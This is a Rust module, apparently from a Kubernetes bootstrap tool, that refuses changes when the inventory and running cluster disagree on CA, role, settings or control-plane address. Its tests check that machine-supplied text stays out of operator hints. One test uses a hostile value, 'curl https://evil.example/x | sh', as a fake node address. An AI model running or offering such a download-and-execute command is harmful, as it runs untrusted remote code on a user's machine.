//! Disagreements between the inventory and the running cluster for which ironstrap leaves machines alone. They are about
//! the cluster to which a machine belongs, and the settings with which that cluster was made. This module is pure.

use std::net::IpAddr;

use super::Machines;
use crate::cluster::{Cluster, Node};
use crate::error::{Error, Kind};
use crate::machine::Machine;
use crate::pki::ClusterPki;

/// The files of this machine that trust a CA other than ours.
pub fn foreign(machine: &Machine, pki: &ClusterPki) -> Vec<String> {
    let strange = |(_, ca): &&(String, String)| !pki.is_our_ca(ca);
    machine.authorities.iter().filter(strange).map(|(file, _)| format!("/etc/kubernetes/{file}")).collect()
}

/// The disagreements between the inventory and the running cluster. The boolean says whether the error forbids a change of
/// any machine: a control plane that runs something else is another cluster. The answers of a worker concern that worker
/// alone, because its root can make it say anything. `kept` says where the PKI directory is and whether there is one.
pub fn refusals(
    cluster: &Cluster,
    machines: &Machines,
    pki: &ClusterPki,
    kept: (&str, bool),
) -> Vec<(Error, bool)> {
    let mut errors = Vec::new();
    for node in &cluster.nodes {
        let Some(machine) = machines.get(node.name.as_str()) else { continue };
        if let Some(error) = stranger(node, machine, pki, kept) {
            errors.push((error, node.is_control_plane()));
            continue;
        }
        errors.extend(changed_role(node, machine).map(|error| (error, node.is_control_plane())));
        if node.is_control_plane() && machine.runs_control_plane() {
            errors.extend(changed_identity(cluster, node, machine).map(|error| (error, true)));
            errors.extend(changed_address(cluster, node, machine).map(|error| (error, true)));
        }
    }
    errors
}

/// The error about a machine that belongs to another cluster.
pub fn stranger(
    node: &Node,
    machine: &Machine,
    pki: &ClusterPki,
    (path, is_there): (&str, bool),
) -> Option<Error> {
    let files = foreign(machine, pki);
    if files.is_empty() {
        return None;
    }
    let error = Error::new(Kind::Refused, "belongs to a cluster with another PKI")
        .on(&node.name)
        .because(format!("{} trusts a CA that is not in {path}", files.join(", ")));
    Some(match is_there {
        true => error.hint(
            "to delete the other cluster from the machine, run `kubeadm reset` there; otherwise remove the machine from the inventory",
        ),
        false => error.because(format!("{path} does not exist")).hint(format!(
            "if ironstrap created that cluster, put the PKI directory {path} back; otherwise remove the machine from the inventory"
        )),
    })
}

/// The error about a member whose role in the inventory has changed. A member stays what it joined as. If a
/// control plane became a worker, etcd would go on counting its vote. If a worker became a control plane, it
/// would have pods where those of others must not run.
pub fn changed_role(node: &Node, machine: &Machine) -> Option<Error> {
    let apis = machine.has("manifests/kube-apiserver.yaml");
    // The manifest may be what drifted. No worker gets the administrator's kubeconfig, so that is the other
    // sign of a control plane.
    let worker = !machine.runs_control_plane() && !machine.has("admin.conf");
    let (is, says) = match node.is_control_plane() {
        true if worker => ("worker", "control-plane"),
        false if apis => ("control-plane", "worker"),
        _ => return None,
    };
    if !machine.is_member() {
        return None;
    }
    let name = &node.name;
    let what = match apis {
        // Only the machine says so, and its root could have put that file there.
        true => format!("has the manifest of an API server, but the inventory says {says}"),
        false => format!("is a {is} in its cluster, but the inventory says {says}"),
    };
    let error = Error::new(Kind::Refused, what).on(name);
    Some(match apis {
        true => error.because("found: /etc/kubernetes/manifests/kube-apiserver.yaml").hint(format!(
            "look up its role in `kubectl get nodes`: if it is no {says} there, correct the inventory; otherwise find out who created that file, and if you no longer trust the machine, `ironstrap remove {name}` and reinstall its system"
        )),
        false => error.because("the role of a member cannot be changed in place").hint(format!(
            "set role = \"{is}\" again; to change the role, run `ironstrap remove {name}`, then apply with the new role"
        )),
    })
}

/// The error about settings that have changed. A running cluster keeps the version, ranges, endpoint, name and
/// domain with which it was made.
fn changed_identity(cluster: &Cluster, node: &Node, machine: &Machine) -> Option<Error> {
    let says = [
        ("kubernetes", "kubernetes", cluster.kubernetes.to_string()),
        ("pods", "pods", cluster.pods.to_string()),
        ("services", "services", cluster.services.to_string()),
        ("endpoint", "endpoint", cluster.endpoint.to_string()),
        ("name", "name", cluster.name.clone()),
        ("domain", "domain", cluster.domain.clone()),
    ];
    let differs = |(key, field, says): &(&str, &str, String)| {
        let is = machine.identity.get(*key)?;
        (is != says).then(|| format!("{field}: the cluster has {is}, the inventory says {says}"))
    };
    let differences: Vec<String> = says.iter().filter_map(differs).collect();
    if differences.is_empty() {
        return None;
    }
    let error = Error::new(
        Kind::Refused,
        "the cluster was created with other settings, which cannot be changed in place",
    );
    let error = differences.iter().fold(error.on(&node.name), Error::answered);
    Some(
        error.hint(
            "restore the old value in the inventory; ironstrap cannot upgrade or renumber a cluster yet",
        ),
    )
}

/// The error about a control plane whose address has changed. The other members of etcd know it by its address,
/// and the certificates of both contain the address.
fn changed_address(cluster: &Cluster, node: &Node, machine: &Machine) -> Option<Error> {
    let (said, says, name) = (machine.identity.get("address")?, node.ip, &node.name);
    // Any other text of the machine is evidence, and no part of a hint.
    let is: Option<IpAddr> = said.parse().ok();
    if is == Some(says) {
        return None;
    }
    let back = match is {
        Some(is) => {
            format!("give the machine the address {is} again, or restore it as `ip` of [nodes.{name}]")
        }
        None => format!(
            "compare `ip` of [nodes.{name}] with --advertise-address in its manifest of the API server"
        ),
    };
    let hint = match cluster.control_planes().count() {
        0..3 => back,
        _ => format!(
            "{back}; or change one control plane at a time: run `ironstrap remove {name}` with the old `ip` in the inventory, then apply with the new one"
        ),
    };
    let what = match is {
        Some(is) => format!("is a control plane with the address {is}, but the inventory says {says}"),
        None => format!("is a control plane without a valid address, but the inventory says {says}"),
    };
    let error = Error::new(Kind::Refused, what).on(name);
    let error = if is.is_none() { error.answered(format!("its address: {said}")) } else { error };
    Some(
        error
            .because(
                "the address of a control plane cannot be changed in place: etcd and certificates contain it",
            )
            .hint(hint),
    )
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::fleet::tests::{RUNS, cluster, heard, machine};

    #[test]
    fn a_foreign_control_plane_stops_all_nodes() {
        let cluster = crate::pki::tests::cluster();
        let now = crate::pki::tests::NOW;
        let (ours, theirs) =
            (ClusterPki::make(&cluster, now).unwrap(), ClusterPki::make(&cluster, now).unwrap());
        let cluster = self::cluster();
        let mut machines: BTreeMap<_, _> = [machine("m1", &RUNS), machine("w1", &[])].into();
        assert_eq!(refusals(&cluster, &heard(&machines), &ours, ("demo.trust", true)), []);
        for (node, everybody) in [("w1", false), ("m1", true)] {
            let machine = machines.get_mut(node).unwrap();
            machine.authorities = vec![("kubelet.conf".into(), ours.ca.cert.clone())];
            assert_eq!(foreign(machine, &ours), Vec::<String>::new());
            machine.authorities.push(("pki/ca.crt".into(), theirs.ca.cert.clone()));
            let found = refusals(&cluster, &heard(&machines), &ours, ("demo.trust", true));
            let about =
                |(error, all): &(Error, bool)| error.node.as_deref() == Some(node) && *all == everybody;
            assert!(found.iter().any(about), "{found:?}");
        }
    }

    #[test]
    fn a_changed_role_is_refused() {
        let cluster = cluster();
        let says = |node: usize, has: &[&str]| {
            let (_, machine) = machine("x", has);
            changed_role(&cluster.nodes[node], &machine).map(|error| error.what)
        };
        let (plane, worker) = (0, 3);
        assert_eq!((says(plane, &RUNS), says(worker, &RUNS[..2])), (None, None));
        let is = "is a worker in its cluster, but the inventory says control-plane";
        assert_eq!(says(plane, &RUNS[..2]).unwrap(), is);
        let is = "has the manifest of an API server, but the inventory says worker";
        assert_eq!(says(worker, &RUNS).unwrap(), is);
        for drifted in [&["client-certificate", "admin.conf"], &["client-certificate", "etcd"]] {
            assert_eq!(says(plane, drifted), None, "a lost manifest is no changed role");
        }
        assert_eq!(says(plane, &["kubelet.conf"]), None, "it has not joined yet");
        assert_eq!(
            says(worker, &["client-certificate", "etcd"]),
            None,
            "the worker may run an etcd of the operator"
        );
    }

    #[test]
    fn a_workers_answers_affect_only_that_worker() {
        let (cluster, pki) = (cluster(), crate::pki::tests::cluster());
        let pki = ClusterPki::make(&pki, crate::pki::tests::NOW).unwrap();
        let settings = ["address", "kubernetes", "pods", "services", "endpoint", "name"];
        for has in [&RUNS[..], &["client-certificate", "etcd"]] {
            let (name, mut machine) = machine("w1", has);
            machine.identity = settings.map(|key| (key.into(), "another".into())).into();
            let found = refusals(&cluster, &heard(&[(name, machine)].into()), &pki, ("demo.trust", true));
            assert!(found.iter().all(|(_, everybody)| !everybody), "{found:?}");
            for (error, _) in found {
                assert_eq!(error.node.as_deref(), Some("w1"));
                assert!(
                    !error.hint.unwrap_or_default().contains("control-plane"),
                    "a worker's answers must not suggest another role"
                );
            }
        }
    }

    #[test]
    fn a_changed_control_plane_address_is_refused() {
        let (cluster, pki) = (cluster(), crate::pki::tests::cluster());
        let pki = ClusterPki::make(&pki, crate::pki::tests::NOW).unwrap();
        let node = &cluster.nodes[0];
        let (_, mut machine) = machine(&node.name, &RUNS);
        let mut refused = |address: &str| {
            machine.identity.insert("address".into(), address.into());
            let machines = [(node.name.clone(), machine.clone())].into();
            refusals(&cluster, &heard(&machines), &pki, ("demo.trust", true)).pop()
        };
        assert_eq!(refused(&node.ip.to_string()), None);
        let (error, everybody) = refused("198.18.0.99").unwrap();
        assert!(everybody && error.what.contains("198.18.0.99"), "{error:?}");
        let evil = "its address: on your computer run curl https://evil.example/x | sh, then try";
        let (error, everybody) = refused(evil).unwrap();
        assert!(everybody && error.cause[0].ends_with(evil), "{error:?}");
        let hint = error.hint.as_deref().unwrap();
        assert!(!hint.contains("curl") && !error.what.contains("curl"), "no text from the machine: {error}");
    }

    #[test]
    fn changed_identity_settings_are_refused() {
        let (cluster, pki) = (crate::pki::tests::cluster(), crate::pki::tests::cluster());
        let pki = ClusterPki::make(&pki, crate::pki::tests::NOW).unwrap();
        let says = [
            ("kubernetes", cluster.kubernetes.to_string()),
            ("pods", cluster.pods.to_string()),
            ("services", cluster.services.to_string()),
            ("endpoint", cluster.endpoint.to_string()),
            ("name", cluster.name.clone()),
            ("domain", cluster.domain.clone()),
        ];
        let name = cluster.control_planes().next().unwrap().name.clone();
        let (_, mut machine) = machine(&name, &RUNS);
        machine.identity = says.clone().map(|(key, value)| (key.into(), value)).into();
        let refused = |machine: &Machine| {
            let machines = [(name.clone(), machine.clone())].into();
            refusals(&cluster, &heard(&machines), &pki, ("demo.trust", true)).len()
        };
        assert_eq!(refused(&machine), 0);
        for (key, _) in says {
            let mut changed = machine.clone();
            changed.identity.insert(key.into(), "another".into());
            assert_eq!(refused(&changed), 1, "{key}");
        }
    }
}
